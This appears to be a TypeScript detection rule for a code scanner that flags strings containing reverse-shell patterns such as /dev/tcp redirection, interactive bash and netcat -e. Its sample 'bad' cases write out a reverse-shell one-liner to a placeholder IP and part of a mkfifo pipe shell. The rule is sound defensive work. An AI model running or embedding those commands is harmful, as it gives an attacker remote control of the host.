import { string } from "../match.ts";
import { defineRule } from "../rule.ts";

export default defineRule({
  id: "reverse-shell-text",
  category: "suspicious_network",
  severity: "high",
  confidence: "medium",
  languages: ["python", "javascript"],
  title: "a string holds a shell's network redirection",
  why: "The text becomes a reverse shell as soon as something writes or runs it.",
  fix: "Remove it; no skill needs this.",
  references: ["ATT&CK T1059.004"],
  match: string(
    /\/dev\/(tcp|udp)\/|(bash|sh|zsh) -i [0-9]?[<>&]|(nc|ncat|netcat)(\.traditional|\.openbsd)? -[a-z]?e |mkfifo \/tmp\//,
  ),
  bad: ['line = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"', 'cmd = "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh"'],
  good: ['path = "/dev/tty"', 'cmd = "bash -c ls"', "# bash -i >& /dev/tcp/203.0.113.7/4444"],
});
